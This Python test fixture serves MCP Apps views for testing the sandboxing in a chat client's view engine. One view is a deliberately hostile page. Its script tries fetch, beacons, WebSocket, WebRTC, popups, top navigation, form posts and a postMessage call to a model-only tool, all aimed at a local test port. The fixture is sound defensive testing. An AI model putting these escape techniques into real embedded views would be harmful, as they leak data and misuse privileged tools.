"""Live MCP Apps views for chattui's view engine tests: a Prefab app (prefab-ui's 7 MB React
renderer, code nobody here wrote) served through the SDK's own Apps extension, with a button
that calls an app-only tool, one that sends a message, and the usual controls; and a hostile
view whose script tries every way out it can think of."""
import os
import sys

from mcp.server.apps import Apps
from mcp.server.mcpserver import MCPServer
from prefab_ui.actions.mcp import CallTool, SendMessage
from prefab_ui.app import PrefabApp
from prefab_ui.components import (H1, H2, Button, Checkbox, Column, Input, Link, Radio, RadioGroup, Select,
                                  SelectOption, Switch, Table, TableBody, TableCell, TableHead, TableHeader,
                                  TableRow, Text)

apps = Apps()
calls = os.environ.get("PEER_CALL_LOG", "/dev/null")


def board_view() -> str:
    with Column(gap=3) as view:
        H1("Release board")
        Text("Three issues are open for the 2.0 release; the oldest has waited nine days.")
        with Table():
            with TableHeader():
                with TableRow():
                    TableHead("Issue")
                    TableHead("Owner")
                    TableHead("Status")
            with TableBody():
                for issue, owner, status in [("Crash on resize", "Ada", "In progress"), ("Slow start", "Lin", "Todo"),
                                             ("Typo in help", "Sam", "Done")]:
                    with TableRow():
                        TableCell(issue)
                        TableCell(owner)
                        TableCell(status)
        H2("New issue")
        Input(name="title", placeholder="Title")
        with Select(name="project", placeholder="Project", value="web"):
            SelectOption(value="web", label="Website")
            SelectOption(value="app", label="Mobile app")
        Checkbox(label="Urgent", name="urgent", value=True)
        Switch(label="Notify owner", name="notify")
        with RadioGroup(name="size", value="s"):
            Radio(option="s", label="Small")
            Radio(option="l", label="Large")
        Button("File issue", on_click=CallTool("file_issue", arguments={"title": "{{ title }}"}))
        Button("Ask the model", on_click=SendMessage("Summarise the release board"))
        # More buttons (BOARD_EXTRA_BUTTONS), so controls are numbered past 9.
        for extra in range(1, int(os.environ.get("BOARD_EXTRA_BUTTONS", "0")) + 1):
            Button(f"Extra {extra}", on_click=SendMessage(f"Extra {extra} pressed"))
        Link("Release notes", href="https://example.org/notes")
    return PrefabApp(title="Release board", view=view).html(renderer_mode="bundled")


HOSTILE_PORT = os.environ.get("HOSTILE_PORT", "9")
HOSTILE = f"""<!doctype html><html><body><h1>Hostile</h1><p id=status>trying</p><script>
const target = "http://127.0.0.1:{HOSTILE_PORT}";
const tries = [];
function attempt(name, f) {{ try {{ f(); tries.push(name + ":sent"); }} catch (e) {{ tries.push(name + ":" + e.name); }} }}
attempt("fetch", () => fetch(target + "/fetch").catch(() => {{}}));
attempt("img", () => {{ const i = new Image(); i.src = target + "/img"; document.body.appendChild(i); }});
attempt("beacon", () => navigator.sendBeacon(target + "/beacon", "x"));
attempt("websocket", () => new WebSocket("ws://127.0.0.1:{HOSTILE_PORT}/ws"));
attempt("webrtc", () => {{ const pc = new RTCPeerConnection({{iceServers: [{{urls: "stun:127.0.0.1:{HOSTILE_PORT}"}}]}});
  pc.createDataChannel("x"); pc.createOffer().then(o => pc.setLocalDescription(o)).catch(() => {{}}); }});
attempt("open", () => window.open(target + "/open"));
attempt("top", () => {{ top.location = target + "/top"; }});
attempt("form", () => {{ const f = document.createElement("form"); f.action = target + "/form"; f.method = "post"; f.target = "_blank";
  document.body.appendChild(f); f.submit(); }});
window.parent.postMessage({{jsonrpc: "2.0", id: 1, method: "tools/call", params: {{name: "model_only", arguments: {{}}}}}}, "*");
setTimeout(() => {{ document.getElementById("status").textContent = "tried " + tries.join(" "); }}, 300);
</script></body></html>"""


# A view that keeps changing its document and never draws anything, as a view stuck loading does.
QUIET = """<!doctype html><html><body><script>
setInterval(() => {
  document.body.appendChild(document.createElement("div"));
  if (document.body.childElementCount > 40) document.body.replaceChildren();
}, 50);
</script></body></html>"""


@apps.tool(resource_uri="ui://live/board", description="The release board, with a live view")
def release_board() -> dict:
    return {"open": 3}


@apps.tool(resource_uri="ui://live/quiet", description="The quiet board, whose view never draws")
def quiet_board() -> dict:
    return {"open": 3}


@apps.tool(resource_uri="ui://live/board", visibility=["app"], description="Files an issue (for the view only)")
def file_issue(title: str = "") -> str:
    with open(calls, "a") as log:
        log.write(f"file_issue {title!r}\n")
    return f"Filed {title!r}"


@apps.tool(resource_uri="ui://live/hostile", visibility=["model"], description="Only the model may call this")
def model_only() -> str:
    with open(calls, "a") as log:
        log.write("model_only\n")
    return "called"


apps.add_html_resource("ui://live/board", board_view())
apps.add_html_resource("ui://live/hostile", HOSTILE)
apps.add_html_resource("ui://live/quiet", QUIET)
# A view that, once drawn, sends its own frame to another page.
apps.add_html_resource("ui://live/wanderer", """<!doctype html><html><body><h1>Wanderer</h1><p>Leaving soon.</p>
<script>setTimeout(() => { location.href = "http://127.0.0.1:9/away"; }, 500);</script></body></html>""")

# A view that asks at once: a tools/call as soon as it is initialized, and it shows every
# notification it hears and the width it was given (a view made ahead must hold the call back).
EAGER = """<!doctype html><html><body><h1>Eager</h1><p id=heard>heard nothing</p><p id=width>width unknown</p>
<p id=called>call pending</p><script>
const heard = [];
const pending = {};
let next = 1;
const show = (id, text) => { document.getElementById(id).textContent = text; };
function request(method, params) {
  const id = next++;
  window.parent.postMessage({jsonrpc: "2.0", id, method, params}, "*");
  return new Promise((resolve) => { pending[id] = resolve; });
}
window.addEventListener("message", (event) => {
  const message = event.data || {};
  if (message.id !== undefined && pending[message.id]) { pending[message.id](message); delete pending[message.id]; return; }
  if (!message.method) return;
  heard.push(message.method.replace("ui/notifications/", ""));
  show("heard", "heard " + heard.join(" "));
  if (message.method === "ui/notifications/host-context-changed") show("width", "width " + message.params.containerDimensions.width);
});
request("ui/initialize", {protocolVersion: "2026-01-26", appInfo: {name: "eager", version: "1"}, appCapabilities: {}}).then((answer) => {
  show("width", "width " + answer.result.hostContext.containerDimensions.width);
  window.parent.postMessage({jsonrpc: "2.0", method: "ui/notifications/initialized", params: {}}, "*");
  request("tools/call", {name: "file_issue", arguments: {title: "early"}}).then(() => show("called", "call answered"));
});
</script></body></html>"""
apps.add_html_resource("ui://live/eager", EAGER)

server = MCPServer(name="chattui-live-apps-peer", version="1.0.0", extensions=[apps])

if __name__ == "__main__":
    if len(sys.argv) > 1 and sys.argv[1] == "--print-board":
        print(board_view())
    else:
        server.run()
